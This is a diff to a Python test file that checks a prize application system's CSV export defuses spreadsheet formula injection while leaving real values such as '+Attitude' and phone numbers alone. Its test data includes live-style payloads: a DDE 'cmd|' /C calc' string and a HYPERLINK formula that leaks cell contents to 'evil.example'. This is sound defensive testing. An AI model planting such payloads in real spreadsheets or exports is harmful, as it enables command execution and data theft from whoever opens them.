@@ -5,7 +5,10 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from datetime import UTC, datetime
+
+import pytest
 
 from prize.domain import exports
 from prize.models import ApplicationStatus, EditionState
@@ -63,7 +66,7 @@ def test_csv_defuses_formulas_and_keeps_commas_and_accents(db):  # type: ignore[
     table = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
     first, second = table
     assert first["title"] == '\'=HYPERLINK("http://evil.example")'
-    assert first["organisation"] == "'+Attitude"
+    assert first["organisation"] == "+Attitude"  # a real project's name, and no formula
     assert first["applicant_name"] == "'@admin"
     assert first["phone"] == "'-1+1"
     assert second["organisation"] == "Jeunes, solidaires"
@@ -75,14 +78,88 @@ def test_csv_defuses_formulas_and_keeps_commas_and_accents(db):  # type: ignore[
 def test_safe_cell_rules():  # type: ignore[no-untyped-def]
     assert [exports.safe_cell(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "ok", None, True)] == [
         "'=1+1",
-        "'+1",
-        "'-1",
+        "+1",
+        "-1",
         "'@x",
-        "'\tx",
+        "\tx",
         "ok",
         "",
         "yes",
     ]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("+A1", "'+A1"),
+        ("-2+3", "'-2+3"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("+Attitude(1)", "'+Attitude(1)"),
+        ("\t=1+1", "\t'=1+1"),
+        ("Jeunes; =HYPERLINK(1)", "Jeunes; '=HYPERLINK(1)"),
+        ('Note, "=A1"', 'Note, "\'=A1"'),
+        ("line\n-2+3", "line\n'-2+3"),
+        ("+Attitude", "+Attitude"),
+        ("+Attitude university students", "+Attitude university students"),
+        ("+33 3 88 41 20 00", "+33 3 88 41 20 00"),
+        ("+33 (0)3 88 41 20 00", "+33 (0)3 88 41 20 00"),
+        ("-0.25", "-0.25"),
+        ("- first point\n- second point", "'- first point\n'- second point"),
+        ("+Attitude,HYPERLINK(1)", "'+Attitude,HYPERLINK(1)"),
+        ("Intercity; +Attitude", "Intercity; '+Attitude"),
+        ("'=already text", "'=already text"),
+        ("EDPP-2027-0001", "EDPP-2027-0001"),
+    ],
+)
+def test_safe_cell_quotes_where_a_formula_could_start_and_nowhere_else(value, cell):  # type: ignore[no-untyped-def]
+    assert exports.safe_cell(value) == cell
+
+
+# Values that start with a sign and are no formula: a winning title of 2016, a phone number.
+GENUINE = {"+Attitude", "+33 3 88 41 20 00", "-1"}
+DANGEROUS = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1)',
+    "organisation": "+Attitude",
+    "phone": "+33 3 88 41 20 00",
+    "applicant_name": "@SUM(A1:A9)",
+    "contact_person": "-2+3",
+    "late_reason": "+cmd|' /C calc'!A0",
+    "screening_note": 'Checked; =HYPERLINK("http://evil.example")\n+A1, -2+3\t@SUM(1)\r=1',
+    "info_message": 'Send it, "=1+1"; -1',
+}
+
+
+def _starts_a_formula(field: str) -> bool:
+    """Whether a spreadsheet could read ``field`` as a formula: after the spaces and double
+    quotes it may strip, a formula character, and not one of the genuine values."""
+    text = field.lstrip(' \t\r\n"')
+    if not text or text[0] not in "=+-@":
+        return False
+    return text.rstrip(' \t\r\n"') not in GENUINE
+
+
+def test_a_real_export_read_with_either_delimiter_has_no_cell_that_starts_a_formula(db):  # type: ignore[no-untyped-def]
+    with db.write() as session:
+        edition = factories.edition(session=session, state=EditionState.screening)
+        factories.application(session=session, edition=edition, countries=["PT"], **DANGEROUS)
+    with db.read() as session:
+        text = exports.to_csv(exports.rows(session=session, edition=edition))
+    body = text.lstrip("\ufeff")
+    header, first = body.splitlines()[:2]  # every cell quoted, even a plain one
+    assert header == ",".join(f'"{name}"' for name in exports.COLUMNS)
+    assert first.startswith('"EDPP-2027-0001","submitted",')
+    for delimiter in (",", ";"):
+        fields = [
+            f for row in csv.reader(io.StringIO(body, newline=""), delimiter=delimiter) for f in row
+        ]
+        assert [f for f in fields if _starts_a_formula(f)] == [], delimiter
+    for line in body.splitlines():  # also split as lines and tabs, as a careless reader may
+        for piece in re.split(r"[,;\t]", line):
+            assert not _starts_a_formula(piece), piece
+    [row] = list(csv.DictReader(io.StringIO(body, newline="")))
+    assert (row["organisation"], row["phone"]) == ("+Attitude", "+33 3 88 41 20 00")
+    assert row["title"] == "'" + DANGEROUS["title"]
 
 
 def test_json_export_has_one_object_per_application(db):  # type: ignore[no-untyped-def]
